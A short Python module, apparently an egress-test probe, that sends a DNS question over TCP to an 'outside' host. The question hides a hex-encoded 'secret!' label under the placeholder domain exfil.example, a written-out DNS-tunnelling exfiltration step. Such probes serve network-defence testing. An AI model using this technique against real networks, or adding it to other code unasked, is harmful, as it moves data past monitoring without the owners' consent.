"""The same question over TCP."""

import socket
import struct

import dns_udp
import say


def attack(given):
    asked = dns_udp.question("73656372657421.exfil.example")
    with socket.create_connection((given["outside"], int(given.get("dns", 53))), timeout=3) as sock:
        answer = say.exchange(sock, struct.pack("!H", len(asked)) + asked)
    return answer[2:4] == b"VI", f"{len(answer)} bytes answered"


say.main("dns_tcp", attack, dns_udp.twin)
